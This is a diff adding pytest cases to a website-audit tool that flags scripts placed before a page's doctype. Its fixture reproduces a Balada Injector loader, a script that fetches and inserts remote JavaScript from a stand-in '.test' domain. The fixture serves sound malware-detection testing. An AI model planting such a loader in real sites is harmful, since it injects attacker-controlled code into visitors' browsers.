@@ -14,6 +14,7 @@ import base64
 import pytest
 
 from auditor.heuristics import FINDING_KINDS
+from auditor.heuristics.behaviour import before_doctype
 from auditor.model import PageReport, Severity
 
 from .conftest import AuditListed
@@ -1424,3 +1425,42 @@ def test_japanese_pages_own_links_are_no_keyword_hack(body: str,
                                                      audit_listed: AuditListed) -> None:
     report = audit_listed(_ja_page(body), _JA_SITE + "/2026/11/ferry/")
     assert [f for f in report.findings if f.kind == "hidden-links"] == []
+
+
+# --- Balada Injector's plain loader before the doctype --------------------------------
+# Sucuri's Balada write-ups: the payload stored in `wp_options` (a widget's or a theme's
+# option) is echoed before `<!DOCTYPE html>`, a plain `currentScript` loader of a rotating
+# domain; in `<head>` the same loader is what any vendor's async tag looks like.
+BALADA_PLAIN = (
+    "<script>var s=document.createElement('script');s.src='https://stay.linestoget.test/"
+    "scripts/check.js?v=9';if(document.currentScript){document.currentScript.parentNode."
+    "insertBefore(s,document.currentScript);}else{document.getElementsByTagName('head')[0]."
+    "appendChild(s);}</script>")
+_CHAT_TAG = '<script async src="https://widget.kiwichat.example/loader.js?id=77121"></script>'
+
+
+@pytest.mark.parametrize(("page", "severity", "where"), [
+    (BALADA_PLAIN + wp_page(), H, "<!DOCTYPE>"),
+    (BALADA_PLAIN + "\n" + wp_page(), H, "<!DOCTYPE>"),
+    (_CHAT_TAG + wp_page(), H, "<!DOCTYPE>"),
+    # the same tags after `</html>`: a widget pasted at the file's end reads alike
+    (wp_page(after=BALADA_PLAIN), M, "</html>"),
+    (wp_page(after=_CHAT_TAG), M, "</html>"),
+], ids=["balada on the doctype's line", "balada before the doctype", "a tag before the "
+        "doctype", "balada after </html>", "a chat widget after </html>"])
+def test_a_script_before_the_doctype_is_high(page: str, severity: Severity, where: str,
+                                            audit_listed: AuditListed) -> None:
+    found = [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
+    assert [f.severity for f in found] == [severity], found
+    assert where in found[0].message
+
+
+def test_a_script_in_the_head_or_a_doctype_in_a_string_is_not_before_the_doctype(
+        audit_listed: AuditListed) -> None:
+    """The plain loader in `<head>` is no finding (any vendor's tag reads so), and a
+    doctype in a script's string before the page's start is not the page's."""
+    assert audit_listed(wp_page(head=BALADA_PLAIN), URL).findings == ()
+    written = ("<script>document.write('<!DOCTYPE html>');</script>"
+               "<!-- cached page --><!DOCTYPE html>")
+    line, prefix = before_doctype(written)
+    assert line == 1 and prefix.endswith("<!-- cached page -->")
